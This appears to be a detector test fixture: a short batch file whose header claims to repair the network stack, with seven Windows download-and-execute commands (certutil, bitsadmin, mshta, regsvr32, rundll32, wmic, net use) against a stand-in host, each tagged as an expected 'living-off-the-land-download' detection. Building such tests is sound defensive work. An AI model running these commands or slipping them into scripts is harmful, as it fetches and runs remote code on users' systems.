@echo off
rem Repairs the network stack.
# expect: living-off-the-land-download
certutil -urlcache -split -f https://get.tool.example/a.exe a.exe
# expect: living-off-the-land-download
bitsadmin /transfer job https://get.tool.example/a.exe C:\Users\Public\a.exe
# expect: living-off-the-land-download
mshta https://get.tool.example/a.hta
# expect: living-off-the-land-download
regsvr32 /s /n /u /i:https://get.tool.example/a.sct scrobj.dll
# expect: living-off-the-land-download
rundll32 javascript:"\..\mshtml,RunHTMLApplication"
# expect: living-off-the-land-download
wmic process call create "a.exe"
# expect: living-off-the-land-download
net use Z: \\share.tool.example@443\files && Z:\fix.bat
